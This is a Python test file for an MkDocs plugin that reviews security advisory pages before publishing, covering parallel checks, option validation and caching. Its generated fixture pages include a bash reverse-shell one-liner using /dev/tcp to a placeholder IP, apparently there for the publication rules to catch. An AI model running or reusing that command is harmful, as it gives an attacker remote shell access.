"""`threatpub check --jobs N` gives the serial report; settings-only findings are cached
safely (a rule marked ``reads_clock=False`` really does not depend on the time)."""

from __future__ import annotations

import datetime as dt
import json
import time
from pathlib import Path

import pytest

from mkdocs_threatpub.core.context import Settings
from mkdocs_threatpub.pipeline.parallel import MIN_PAGES_PER_WORKER
from mkdocs_threatpub.pipeline.session import PageCache, Session
from mkdocs_threatpub.rules import ALL_RULES
from tests.conftest import EXAMPLE_SITE, threatpub

TZ = dt.timezone(dt.timedelta(hours=8))

ADVISORY = """\
---
title: "Advisory {n}"
threatpub:
  kind: vulnerability
  published: 2026-11-02T10:00+08:00
  target:
    operator: Example Vendor {n}
    system: EX-{n} gateway
{extra}---

# Advisory {n}

The parser of EX-{n} mishandles a crafted header. Upgrade to 2.4.1.
{body}"""


def _page(n: int) -> str:
    """Mixed verdicts: published, held (CAC801, CAC402), failing (META003), warned."""
    extra = "  repair:\n    status: fixed\n    date: 2026-10-28\n"
    body = ""
    if n % 7 == 3:
        extra = ""  # no opinion, no fix, no notice: CAC801 hold
    if n % 11 == 5:
        body = "\n```bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n```\n"
    if n % 13 == 7:
        extra += "  classification: secret-ish\n"  # META003 fail
    if n % 17 == 2:
        body += "\nThe worst vulnerability ever.\n"  # CAC300 warning
    return ADVISORY.format(n=n, extra=extra, body=body)


def test_parallel_check_gives_the_serial_report(tmp_path: Path) -> None:
    pages = 2 * MIN_PAGES_PER_WORKER + 30  # enough for two workers
    docs = tmp_path / "docs"
    for n in range(pages):
        folder = docs / f"part-{n % 4}"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"advisory-{n:04d}.md").write_text(_page(n), encoding="utf-8")
    reports = {}
    for jobs in ("1", "2"):
        started = time.monotonic()
        result = threatpub("check", "docs", "--format", "json", "--jobs", jobs, cwd=tmp_path)
        print(f"\n--jobs {jobs}: {time.monotonic() - started:.2f} s for {pages} pages")
        assert result.returncode == 1, result.stderr
        reports[jobs] = result.stdout
    assert reports["1"] == reports["2"]
    summary = json.loads(reports["2"])["summary"]
    assert summary["pages"] == pages
    assert summary["hold"] > 0
    assert summary["fail"] > 0
    assert summary["publish"] > 0
    # The text report too (what a CI log shows).
    text = [threatpub("check", "docs", "--jobs", jobs, cwd=tmp_path).stdout for jobs in ("1", "2")]
    assert text[0] == text[1]


@pytest.mark.parametrize("value", ["0", "-2", "two"])
def test_jobs_must_be_a_positive_number(tmp_path: Path, value: str) -> None:
    result = threatpub("check", ".", "--jobs", value, cwd=tmp_path)
    assert result.returncode == 2
    # Our message for the value (argparse puts its own "argument -j/--jobs:" before it).
    assert f"expected a whole number of at least 1, got {value!r}" in result.stderr


def _example_pages() -> list[tuple[str, bytes]]:
    docs = EXAMPLE_SITE / "docs"
    return [(p.relative_to(docs).as_posix(), p.read_bytes()) for p in sorted(docs.rglob("*.md"))]


def test_rules_marked_clock_free_do_not_depend_on_the_time() -> None:
    """The cache reuses findings of ``reads_clock=False`` rules across builds, whatever the
    time; so each such rule must give the same findings a year apart, on every example
    page and every test page above."""
    settings = Settings(include=("advisories/**", "incidents/**", "reports/**", "blog/**"))
    pages = _example_pages() + [(f"advisories/p{n}.md", _page(n).encode()) for n in range(40)]
    free = [rule for rule in ALL_RULES if not rule.reads_clock and rule.check is not None]
    assert {r.code for r in free} >= {"CAC300", "CAC401", "CAC402", "META001"}
    moments = [dt.datetime(2025, 1, 1, tzinfo=TZ), dt.datetime(2026, 11, 23, 10, tzinfo=TZ),
               dt.datetime(2031, 6, 30, 23, 59, tzinfo=TZ)]  # fmt: skip
    seen = []
    for now in moments:
        session = Session(settings, now)
        found = {}
        for path, raw in pages:
            page = session.read(path, raw)
            for rule in free:
                found[path, rule.code] = list(rule.check(page, session.context))  # type: ignore[misc]
        seen.append(found)
    assert seen[0] == seen[1] == seen[2]
    assert any(seen[0].values()), "the pages should give clock-free findings to compare"


def test_cached_findings_follow_the_settings() -> None:
    """One page cache, two settings (as when mkdocs.yml changes under `mkdocs serve`): a
    custom pattern added in the second must be found, not served from the first's cache."""
    raw = b"# Notes\n\nProject BLUEFIN ships next week.\n"
    cache = PageCache()
    now = dt.datetime(2026, 11, 23, 10, tzinfo=TZ)
    before = Session(Settings(), now, cache=cache).judge("notes.md", raw)
    from mkdocs_threatpub.core.context import CustomPattern

    pattern = CustomPattern(name="codename", pattern=r"\bBLUEFIN\b", description="codename")
    after = Session(Settings(custom_patterns=(pattern,)), now, cache=cache).judge("notes.md", raw)
    assert before.codes == []
    assert after.codes == ["CAC407"]
    assert cache.reads == 1  # the page was parsed once; only the findings were recomputed
